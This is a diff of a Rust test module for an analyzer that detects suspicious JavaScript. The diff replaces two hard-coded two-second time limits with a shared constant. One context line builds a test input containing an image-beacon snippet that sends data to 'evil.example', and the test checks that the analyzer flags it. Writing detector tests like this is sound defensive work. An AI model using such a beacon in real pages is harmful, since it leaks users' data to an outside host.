@@ -402,7 +402,7 @@ mod tests {
             );
             let a = analyze(Some("var x = 1;"), &src);
             assert!(a.hints.iter().any(|h| h.contains("too deeply nested")), "{name}: {:?}", a.hints);
-            assert!(started.elapsed() < std::time::Duration::from_secs(2), "{name}: {:?}", started.elapsed());
+            assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{name}: {:?}", started.elapsed());
         }
         // What can still be told from the text is still told.
         let src = format!("eval(x);new Image().src='https://evil.example/'+d;{}", "[".repeat(5000));
@@ -423,6 +423,6 @@ mod tests {
         let started = std::time::Instant::now();
         let a = analyze(None, &src);
         assert!(a.hints.iter().any(|h| h.contains("builds a URL")), "{:?}", a.hints);
-        assert!(started.elapsed() < std::time::Duration::from_secs(2), "{:?}", started.elapsed());
+        assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{:?}", started.elapsed());
     }
 }
